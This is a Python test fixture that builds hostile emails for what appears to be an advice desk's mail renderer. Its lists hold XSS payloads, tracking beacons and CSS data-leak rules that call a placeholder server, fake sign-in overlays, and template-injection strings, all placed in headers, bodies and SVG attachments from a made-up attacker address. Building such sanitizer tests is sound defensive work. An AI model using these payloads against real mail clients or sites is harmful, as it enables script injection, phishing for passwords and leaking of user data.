"""Letters that mean harm: HTML and headers that try to run, to reach out, to cover the desk, or to fool who reads.

`URL` in a vector stands for a server that must not be asked for anything.
"""

from email.message import EmailMessage
from email.policy import SMTP

SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=URL/a></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror=&#97;lert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>click</text></a></svg>',
    '<svg><use href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"></use></svg>',
    '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>click</maction></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><img src=x onerror=alert(1)></template>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<a href=javascript:alert(1)>a link</a>",
    "<a href='  java\nscript:alert(1)'>a link</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>a link</a>",
    "<a href='vbscript:msgbox(1)'>a link</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='></object>",
    "<embed src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<x contenteditable onbeforeinput=alert(1) onpointerenter=alert(1)>x</x>",
    "<style>@keyframes x{}</style><b style='animation-name:x' onanimationstart=alert(1)>x</b>",
    "<div hx-get='/sign-out' hx-trigger=load data-key=a data-topic=1 data-live id=list>x</div>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img/src/onerror=alert(1)//",
    "<<script>alert(1)//<</script>",
)
"""What tries to run."""

REACHES = (
    "<img src=URL/pixel>",
    "<img srcset='URL/srcset 1x'>",
    "<picture><source srcset=URL/source><img></picture>",
    "<link rel=stylesheet href=URL/css>",
    "<link rel=prefetch href=URL/prefetch>",
    "<link rel=dns-prefetch href=URL/dns>",
    "<style>@import url(URL/import); body{background:url(URL/body)}</style>",
    "<style>@font-face{font-family:x;src:url(URL/font)} body{font-family:x}</style>",
    "<style>input[value^='a']{background:url(URL/leak)}</style><input value=abc>",
    "<p style='background:url(URL/style)'>x</p>",
    "<p style='list-style:url(URL/list)'>x</p>",
    "<table background=URL/table><tr><td background=URL/cell>x</table>",
    "<video poster=URL/poster src=URL/video autoplay></video>",
    "<audio src=URL/audio autoplay></audio>",
    "<svg><image href=URL/svg></image></svg>",
    "<svg><style>@import 'URL/svgcss';</style></svg>",
    "<iframe src=URL/frame></iframe>",
    "<object data=URL/object></object>",
    "<embed src=URL/embed>",
    "<meta http-equiv=refresh content='0;url=URL/refresh'>",
    "<base href=URL/><img src=base>",
    "<form action=URL/form><button autofocus>x</button></form><script>document.forms[0].submit()</script>",
    "<a ping=URL/ping href='#'>x</a>",
    "<img src='cid:none' lowsrc=URL/lowsrc dynsrc=URL/dynsrc>",
    "<bgsound src=URL/sound>",
    "<portal src=URL/portal></portal>",
)
"""What tries to tell somebody that the letter was opened."""

COVERS = (
    "<div style='position:fixed;inset:0;z-index:9999'><a href=URL/cover>Your session is over. Sign in</a></div>",
    "<style>*{display:none!important}</style>",
    "</div></article></main><form action=/sign-out method=post><button>Undo</button></form>",
    "<dialog open style='inset:0'>Sign in again: <input type=password></dialog>",
    "</textarea></pre></iframe><h1>Approved</h1>",
)
"""What tries to cover or break out of the place where it is shown."""


def letters(url: str) -> list[bytes]:
    """A message for each vector: as HTML, and in the subject, the name and the text as well."""
    found = []
    for number, vector in enumerate((*SCRIPTS, *REACHES, *COVERS)):
        hostile = vector.replace("URL", url)
        line = " ".join(hostile.replace("\0", "").split())
        message = EmailMessage(policy=SMTP)
        message["From"] = f'"{line.replace(chr(34), chr(39))[:60]}" <mallory@evil.example>'
        message["To"] = "advice@desk.example"
        message["Subject"] = f"{line[:120]} pull"
        message["Message-ID"] = f"<{number}@evil.example>"
        message.set_content(f"May I pull out? {line}\n{{{{7*7}}}} {{% for x in range(9) %}}\n")
        message.add_alternative(f"<p>Dear Carol {number}</p>{hostile.replace(chr(0), '')}<p>Yours</p>", subtype="html")
        message.add_attachment(hostile.encode(), "image", "svg+xml", filename=f"{line[:20]}.svg")
        found.append(message.as_bytes())
    return found
